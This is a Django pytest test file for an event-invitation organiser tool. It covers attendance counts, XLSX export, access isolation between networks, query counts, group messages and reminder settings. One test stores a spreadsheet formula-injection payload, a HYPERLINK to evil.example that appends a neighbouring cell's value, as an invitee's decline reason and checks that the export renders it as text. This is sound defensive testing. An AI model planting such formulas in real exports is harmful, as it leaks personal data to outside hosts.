import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from invitations.models import GroupMessage, Invitation, SendOut
from invitations.selectors import event_overview
from invitations.services import group_messages, sendouts
from partners.models import Network, Organisation, OrganisationMembership, Person
from tests.factories import RegistrationFactory
from worker.models import OutgoingMessage

from .helpers import send_out

BASE = "/arrangor/invitasjoner/"


@pytest.fixture
def answered(event, klima):
    """Three invited in klima: Sigrid registered, Jonas declined, Emma no answer."""
    send_out(event=event, network_ids=[klima.pk])
    sigrid = Invitation.objects.get(email="sigrid.lunde@example.org")
    registration = RegistrationFactory(
        event=event,
        status="confirmed",
        name=sigrid.name,
        email=sigrid.email,
        organisation=sigrid.organisation,
        person=sigrid.person,
    )
    Invitation.objects.filter(pk=sigrid.pk).update(
        state="registered", registration=registration, answered_at=timezone.now()
    )
    Invitation.objects.filter(email="jonas.berg@example.org").update(
        state="declined", decline_reason="Ferie", answered_at=timezone.now()
    )
    return event


def test_overview_counts_per_organisation_and_unrepresented_members(answered, klima):
    overview = event_overview(answered)
    assert (overview.invited, overview.registered, overview.declined, overview.no_answer) == (
        3,
        1,
        1,
        1,
    )
    rows = {row.organisation.name: row for row in overview.organisations}
    statsforvalteren = rows["Statsforvalteren i Vestfold og Telemark"]
    assert (statsforvalteren.registered, statsforvalteren.participants) == (1, 1)
    assert rows["Industrial Green Tech"].declined == 1
    assert rows["Universitetet i Sørøst-Norge"].no_answer == 1
    members = set(
        OrganisationMembership.objects.filter(network=klima, role="member").values_list(
            "organisation__name", flat=True
        )
    )
    unrepresented = {o.name for o in overview.unrepresented_members}
    assert unrepresented == members - {"Statsforvalteren i Vestfold og Telemark"}


def test_event_page_shows_counts_and_unrepresented_members(klima_client, answered):
    html = klima_client.get(BASE + "arrangement/%d/" % answered.pk).content.decode()
    assert '<dd id="count-invited">3</dd>' in html
    assert '<dd id="count-registered">1</dd>' in html
    assert '<dd id="count-declined">1</dd>' in html
    assert '<dd id="count-no-answer">1</dd>' in html
    unrepresented = html.split('id="unrepresented"')[1].split("</ul>")[0]
    assert "Industrial Green Tech" in unrepresented
    assert "Statsforvalteren" not in unrepresented


def test_export_xlsx_parses_back_with_answers_and_counts(klima_client, answered):
    response = klima_client.get(BASE + "arrangement/%d/eksport.xlsx" % answered.pk)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.content))
    invitations, counts = workbook.worksheets
    rows = list(invitations.iter_rows(values_only=True))
    assert len(rows) == 4
    by_email = {row[1]: row for row in rows[1:]}
    assert by_email["jonas.berg@example.org"][5] == "Ferie"
    assert by_email["sigrid.lunde@example.org"][2] == "Statsforvalteren i Vestfold og Telemark"
    count_rows = {row[0]: row[1:] for row in counts.iter_rows(min_row=2, values_only=True)}
    assert count_rows["Statsforvalteren i Vestfold og Telemark"] == (1, 1, 0, 0, 1)
    assert count_rows["Industrial Green Tech"] == (1, 0, 1, 0, 0)


def test_export_xlsx_shows_a_formula_typed_by_an_invitee_as_text(klima_client, answered):
    from invitations.models import Invitation

    Invitation.objects.filter(email="jonas.berg@example.org").update(
        decline_reason='=HYPERLINK("https://evil.example/?"&A3,"Les mer")'
    )
    response = klima_client.get(BASE + "arrangement/%d/eksport.xlsx" % answered.pk)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert cells and all(cell.data_type == "s" for cell in cells)


@pytest.mark.parametrize(
    "path",
    [
        "arrangement/{event}/",
        "arrangement/{event}/utsending/ny/",
        "arrangement/{event}/eksport.xlsx",
        "arrangement/{event}/melding/",
        "arrangement/{event}/person/{person}/",
        "utsending/{sendout}/",
    ],
)
def test_organiser_of_another_network_gets_404(client, folkehelse_organiser, answered, path):
    sendout = SendOut.objects.get()
    person = Person.objects.get(email="jonas.berg@example.org")
    url = BASE + path.format(event=answered.pk, sendout=sendout.pk, person=person.pk)
    client.force_login(folkehelse_organiser)
    assert client.get(url).status_code == 404
    assert client.post(url).status_code in (404, 405)


def test_organiser_of_another_network_cannot_start_a_sendout(
    client, folkehelse_organiser, event, klima
):
    sendout = sendouts.create_sendout(event=event, created_by=None, network_ids=[klima.pk])
    client.force_login(folkehelse_organiser)
    response = client.post(BASE + "utsending/%d/send/" % sendout.pk, {"now": "1"})
    assert response.status_code == 404
    sendout.refresh_from_db()
    assert sendout.state == SendOut.State.DRAFT


def test_event_list_shows_only_own_events(client, folkehelse_organiser, event, make_event):
    folkehelse = Network.objects.get(slug="folkehelse")
    own = make_event(title="Folkehelsemøte", network=folkehelse)
    client.force_login(folkehelse_organiser)
    html = client.get(BASE).content.decode()
    assert own.title in html and event.title not in html


def _many_invited(event, count, prefix):
    organisations = list(Organisation.objects.all())
    people = Person.objects.bulk_create(
        Person(
            name="Person %d" % n,
            email="%s-%d@example.org" % (prefix, n),
            organisation=organisations[n % len(organisations)],
        )
        for n in range(count)
    )
    send_out(event=event, person_ids=[p.pk for p in people])


@pytest.mark.parametrize("path", ["arrangement/{event}/", "", "utsending/{sendout}/"])
def test_list_pages_query_count_is_the_same_for_1_and_50(klima_client, make_event, path):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    counts = []
    for size in (1, 50):
        event = make_event(title="Møte %d" % size)
        _many_invited(event, size, prefix="size%d" % size)
        sendout = SendOut.objects.filter(event=event).get()
        url = BASE + path.format(event=event.pk, sendout=sendout.pk)
        with CaptureQueriesContext(connection) as queries:
            assert klima_client.get(url).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1], counts


def test_person_page_lists_invitations_messages_and_answers(klima_client, answered):
    jonas = Person.objects.get(email="jonas.berg@example.org")
    html = klima_client.get(
        BASE + "arrangement/%d/person/%d/" % (answered.pk, jonas.pk)
    ).content.decode()
    assert "Ferie" in html
    message = OutgoingMessage.objects.get(person_ref=jonas.pk)
    assert message.subject in html


def test_group_message_reaches_each_chosen_group_once(
    answered, django_capture_on_commit_callbacks, eager_celery
):
    RegistrationFactory(
        event=answered, status="waitlisted", name="Venter", email="venter@example.org"
    )
    with django_capture_on_commit_callbacks(execute=True):
        group_messages.create_group_message(
            event=answered,
            created_by=None,
            audiences=["confirmed", "no_answer", "waitlisted"],
            subject="Praktisk info",
            body="Husk matpakke.",
        )
    group_messages.deliver_group_message(group_message_id=GroupMessage.objects.get().pk)
    rows = OutgoingMessage.objects.filter(kind="organiser_message")
    assert sorted(rows.values_list("to_email", flat=True)) == [
        "emma.wilson@example.org",
        "sigrid.lunde@example.org",
        "venter@example.org",
    ]
    assert all("Husk matpakke." in row.text_body for row in rows)
    assert GroupMessage.objects.get().recipient_count == 3


def test_group_message_form_posts_through_the_outbox(
    klima_client, answered, django_capture_on_commit_callbacks, eager_celery
):
    with django_capture_on_commit_callbacks(execute=True):
        response = klima_client.post(
            BASE + "arrangement/%d/melding/" % answered.pk,
            {"audiences": ["declined"], "subject": "Synd", "body": "Neste gang!"},
        )
    assert response.status_code == 302
    assert list(
        OutgoingMessage.objects.filter(kind="organiser_message").values_list("to_email", flat=True)
    ) == ["jonas.berg@example.org"]


def test_reminder_settings_form_saves(klima_client, event):
    klima_client.post(
        BASE + "arrangement/%d/paaminnelser/" % event.pk,
        {"remind_invitees_days_before_close": "5", "remind_participants_days_before": ""},
    )
    settings_row = event.reminder_settings
    settings_row.refresh_from_db()
    assert settings_row.remind_invitees_days_before_close == 5
    assert settings_row.remind_participants_days_before is None


def test_bad_page_numbers_and_reminder_days_are_not_a_500(klima_client, answered):
    url = BASE + "arrangement/%d/" % answered.pk
    assert klima_client.get(url + "?side=99999999999999999999").status_code == 200
    response = klima_client.post(
        url + "paaminnelser/",
        {
            "remind_invitees_days_before_close": "99999999999",
            "remind_participants_days_before": "61",
        },
    )
    assert response.status_code == 302


def test_group_message_survives_a_broker_outage(klima_client, answered, eager_celery):
    import datetime as dt
    from unittest import mock

    from django.utils import timezone

    from invitations.models import GroupMessage
    from invitations.services.sendouts import start_due_sendouts

    with mock.patch(
        "invitations.tasks.deliver_group_message.apply_async", side_effect=OSError("broker down")
    ):
        response = klima_client.post(
            BASE + "arrangement/%d/melding/" % answered.pk,
            {"audiences": ["declined"], "subject": "Hei", "body": "Vi savner deg."},
        )
    assert response.status_code == 302
    group_message = GroupMessage.objects.get()
    assert (
        group_message.sent_at is None and not OutgoingMessage.objects.filter(subject="Hei").exists()
    )
    start_due_sendouts(now=timezone.now() + dt.timedelta(minutes=5))
    group_message.refresh_from_db()
    assert group_message.sent_at is not None
    assert (
        OutgoingMessage.objects.filter(subject="Hei", to_email="jonas.berg@example.org").count()
        == 1
    )
